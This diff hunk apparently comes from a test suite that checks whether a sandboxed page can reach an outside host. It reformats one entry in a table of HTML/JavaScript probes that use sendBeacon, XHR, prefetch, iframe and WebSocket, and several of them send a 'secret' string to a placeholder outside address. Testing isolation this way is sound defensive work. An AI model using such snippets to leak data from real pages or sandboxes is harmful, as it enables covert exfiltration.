@@ -29,8 +29,9 @@ x.onloadend = report; x.send("secret");</script>""",
     "beacon": '<script>navigator.sendBeacon("{outside}/beacon", "secret"); setTimeout(report, 500)</script>',
     "prefetch": '<link rel="prefetch" href="{outside}/prefetch"><script>setTimeout(report, 500)</script>',
     "iframe": '<iframe src="{outside}/iframe"></iframe><script>setTimeout(report, 500)</script>',
-    "websocket": """<script>try {{ const ws = new WebSocket("{outside_ws}/websocket"); ws.onerror = ws.onclose = report; }}
-catch (error) {{ document.title = String(error); report(); }}</script>""",
+    "websocket": """<script>try {{
+  const ws = new WebSocket("{outside_ws}/websocket"); ws.onerror = ws.onclose = report;
+}} catch (error) {{ document.title = String(error); report(); }}</script>""",
 }
 
 
